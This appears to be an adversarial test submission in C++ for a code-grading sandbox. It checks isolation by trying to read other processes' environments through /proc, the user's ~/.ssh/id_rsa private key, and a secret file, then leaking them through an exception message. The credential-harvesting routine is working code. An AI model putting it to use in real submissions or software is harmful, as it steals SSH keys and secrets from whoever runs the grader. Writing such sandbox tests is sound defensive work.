// Adversarial: the secrets of the user who runs the grade, printed into the report: the judge's
// environment read through /proc, the home folder it names, and a private file at a path the
// submission knows (SECRET_FILE). In the sandbox none of them is there: its /proc shows its own
// processes only, and its root no home. It says what it read by throwing it.
#include <dirent.h>

#include <cstdlib>
#include <fstream>
#include <overlap/pipeline.hpp>
#include <sstream>
#include <stdexcept>
#include <string>
#include <vector>

namespace pp = overlap::pipeline;

namespace {

std::string read_whole(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream text;
  text << in.rdbuf();
  return text.str();
}

// Every variable of every other process's environment (NUL-separated in /proc/PID/environ).
std::vector<std::string> environments() {
  std::vector<std::string> found;
  DIR* proc = ::opendir("/proc");
  if (!proc) return found;
  const std::string self = std::to_string(::getpid());
  while (const dirent* entry = ::readdir(proc)) {
    const std::string pid = entry->d_name;
    if (pid.find_first_not_of("0123456789") != std::string::npos || pid == self) continue;
    std::istringstream variables(read_whole("/proc/" + pid + "/environ"));
    for (std::string v; std::getline(variables, v, '\0');) found.push_back(v);
  }
  ::closedir(proc);
  return found;
}

}  // namespace

void train(pp::Pipeline&) {
  std::string read;
  for (const std::string& v : environments()) {
    if (v.starts_with("OVERLAP_TEST_SECRET=")) read += v + "; ";
    if (v.starts_with("HOME=")) read += read_whole(v.substr(5) + "/.ssh/id_rsa");
  }
  read += read_whole(SECRET_FILE);
  throw std::runtime_error(read.empty() ? "read nothing of the user's" : "read: " + read);
}

OVERLAP_TRAIN(train)
